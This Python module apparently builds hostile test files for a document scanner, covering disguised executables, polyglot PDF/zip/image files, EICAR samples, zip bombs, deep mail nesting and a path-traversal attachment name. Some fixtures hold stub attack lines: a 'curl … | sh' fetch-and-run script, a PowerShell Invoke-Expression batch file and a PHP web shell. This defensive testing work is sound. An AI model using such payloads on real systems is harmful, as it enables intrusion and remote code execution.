"""Files that are two things at once, or another than their name says."""

import io
import struct
from collections.abc import Callable

from qrt.adapters.scan.clamd import EICAR
from tests.generators.hostile.pdfs import PROGRAM
from tests.generators.hostile.plain import a_mail, a_pdf, a_zip, an_xlsx, picture

_CODE = b"<html><script>alert(1)</script></html>"
_ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 600


def _prefixed(zipped: bytes, before: bytes) -> bytes:
    """A zip behind other bytes, with its directory's offsets moved so that it still opens."""
    data = bytearray(zipped)
    end = data.rindex(b"PK\x05\x06")
    (directory,) = struct.unpack("<I", data[end + 16 : end + 20])
    data[end + 16 : end + 20] = struct.pack("<I", directory + len(before))
    at = directory
    while data[at : at + 4] == b"PK\x01\x02":
        (place,) = struct.unpack("<I", data[at + 42 : at + 46])
        data[at + 42 : at + 46] = struct.pack("<I", place + len(before))
        name, extra, comment = struct.unpack("<HHH", data[at + 28 : at + 34])
        at += 46 + name + extra + comment
    return before + bytes(data)


FAMILY: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "program": ("invoice.pdf", lambda: b"MZ" + b"\0" * 600, "document.executable"),
    "Linux program called .xlsx": ("book.xlsx", lambda: _ELF, "document.executable"),
    "Java class called .jpg": ("scan.jpg", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 600, "document.executable"),
    "shell script called .csv": ("bank.csv", lambda: b"#!/bin/sh\ncurl http://example.com/x | sh\n", "document.executable"),
    "batch file": ("pay.bat", lambda: b"@echo off\r\npowershell -Command Invoke-Expression x\r\n", "document.virus"),
    "shortcut": ("bill.lnk", lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 100, "document.executable"),
    "rich text with an object": ("letter.rtf", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "document.active_content"),
    "PDF and zip": ("bill.pdf", lambda: _prefixed(a_zip(("a.csv", b"1")), a_pdf()), "document.two_kinds"),
    "PDF and program archive": ("bill.pdf", lambda: _prefixed(a_zip(("x/A.class", b"\xca\xfe\xba\xbe")), a_pdf()), "document.two_kinds"),
    "picture and zip": ("scan.jpg", lambda: _prefixed(a_zip(("a.csv", b"1")), picture(form="JPEG")), "document.two_kinds"),
    "picture and page": ("scan.png", lambda: picture() + _CODE, "document.two_kinds"),
    "picture and PHP": ("scan.gif", lambda: picture(form="GIF") + b"<?php system($_GET['x']); ?>", "document.two_kinds"),
    "page and PDF": ("bill.pdf", lambda: _CODE + a_pdf(), "document.two_kinds"),
    "picture and PDF": ("bill.pdf", lambda: picture(8, 8, "GIF") + a_pdf(), "document.two_kinds"),
    "program behind a PDF": ("bill.pdf", lambda: a_pdf() + PROGRAM + b"This program cannot be run in DOS mode PE\0\0\x4c\x01" + b"\n%%EOF", "document."),
    "program before a zip": ("bills.zip", lambda: _prefixed(a_zip(("a.csv", b"1")), PROGRAM), "document.executable"),
    "virus test file": ("eicar.txt", lambda: EICAR, "document.virus"),
    "virus called .pdf": ("bill.pdf", lambda: EICAR, "document.virus"),
    "virus behind a table": ("bank.csv", lambda: b"Date,Amount\n1,2\n" + EICAR, "document.virus"),
    "virus in a workbook": ("book.xlsx", lambda: an_xlsx(("xl/media/image1.png", EICAR)), "document.virus"),
    "noise called .pdf": ("bill.pdf", lambda: _noise(5000), "document.type_unknown"),
    "noise called .xlsx": ("book.xlsx", lambda: _noise(5000, b"PK\x03\x04"), "document.truncated"),
    "noise without a name": ("x", lambda: _noise(200_000), "document.type_unknown"),
}


def _noise(size: int, head: bytes = b"") -> bytes:
    """Bytes that follow from their number alone."""
    out, state = io.BytesIO(head), 12345
    out.seek(0, 2)
    while out.tell() < size:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.write(struct.pack(">I", state)[1:])
    return out.getvalue()


def _in_circles(levels: int) -> bytes:
    data = a_mail(("bill.pdf", a_pdf()))
    for _ in range(levels):
        data = a_mail(inner=data)
    return data


MAILS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "virus in a mail": ("mail.eml", lambda: a_mail(("eicar.txt", EICAR)), "document.virus"),
    "program in a mail": ("mail.eml", lambda: a_mail(("invoice.pdf", PROGRAM)), "document.executable"),
    "bomb in a mail": ("mail.eml", lambda: a_mail(("bomb.zip", a_zip(("zeros.csv", b"0" * 90_000_000)))), "document.zip_bomb"),
    "virus in a zip in a mail": ("mail.eml", lambda: a_mail(("a.zip", a_zip(("eicar.com", EICAR)))), "document.virus"),
    "virus in a mail in a mail": ("mail.eml", lambda: a_mail(inner=a_mail(("eicar.txt", EICAR))), "document.virus"),
    "mails forty deep": ("mail.eml", lambda: _in_circles(40), "document.nesting"),
    "mail in a zip in a mail in a zip": (
        "x.zip",
        lambda: a_zip(("a.eml", a_mail(("b.zip", a_zip(("c.eml", a_mail(("d.csv", b"a,b\n1,2\n")))))))),
        "document.nesting",
    ),
    "mail of three thousand attachments": ("mail.eml", lambda: _many_parts(3000), "document.zip_bomb"),
    "mail of a hundred thousand parts": ("mail.eml", lambda: _many_parts(100_000), "document.zip_bomb"),
    "boundaries inside boundaries": ("mail.eml", lambda: _boundaries(2000), "document."),
    "attachment that climbs": ("mail.eml", lambda: a_mail(("../../../etc/cron.d/x", b"a,b\n1,2\n")), "document.unsafe_path"),
    "cut-off mail": ("mail.eml", lambda: a_mail(("bill.pdf", a_pdf(3)))[:-900], "document.truncated"),
}


def _many_parts(parts: int) -> bytes:
    """A mail of that many small attachments."""
    head = "From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    part = "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename={}.txt\r\n\r\nx\r\n"
    return (head + "".join(part.format(number) for number in range(parts)) + "--b--\r\n").encode()


def _boundaries(levels: int) -> bytes:
    lines = ["From: a@b.example", "To: c@d.example", "Subject: x", "MIME-Version: 1.0"]
    for level in range(levels):
        lines += [f'Content-Type: multipart/mixed; boundary="b{level}"', "", f"--b{level}"]
    return "\r\n".join([*lines, "Content-Type: text/plain", "", "x"]).encode()
